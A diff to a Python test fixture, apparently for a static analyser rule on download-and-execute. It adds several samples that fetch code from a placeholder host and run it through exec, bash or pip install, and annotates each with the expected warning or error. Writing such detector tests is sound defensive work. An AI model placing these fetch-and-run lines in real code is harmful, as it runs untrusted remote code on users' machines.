@@ -1,13 +1,17 @@
 """Code that is fetched and run, in the ways it is done."""
 
+import asyncio
 import importlib.util
 import os
 import subprocess
 import sys
 import tempfile
+import threading
 import urllib.request
 from pathlib import Path
 
+import aiohttp
+import pip
 import requests
 
 exec(requests.get("https://files.example.invalid/stage.py").text)
@@ -80,3 +84,43 @@ def load_module(address):
 #          ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: warning
     module = importlib.util.module_from_spec(spec)
     spec.loader.exec_module(module)
+
+
+class Stage:
+    def __init__(self, address):
+        self.address = address
+
+    def fetch(self):
+        return urllib.request.urlopen(self.address).read()
+
+
+exec(Stage("https://files.example.invalid/stage.py").fetch())
+#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: error
+
+
+def background():
+    exec(requests.get("https://files.example.invalid/stage.py").json()["code"])
+#   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: error
+
+
+threading.Thread(target=background, daemon=True).start()
+
+
+async def main():
+    async with aiohttp.ClientSession() as session:
+        async with session.get("https://files.example.invalid/stage.py") as answer:
+            exec(await answer.text())
+#           ^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: error
+
+
+asyncio.run(main())
+
+with requests.get("https://files.example.invalid/agent.sh", stream=True) as answer:
+    with open("/tmp/agent.sh", "wb") as handle:
+        for chunk in answer.iter_content(1024):
+            handle.write(chunk)
+subprocess.run(["bash", "/tmp/agent.sh"])
+#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: error
+
+pip.main(["install", "https://files.example.invalid/tool.tar.gz"])
+#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: error
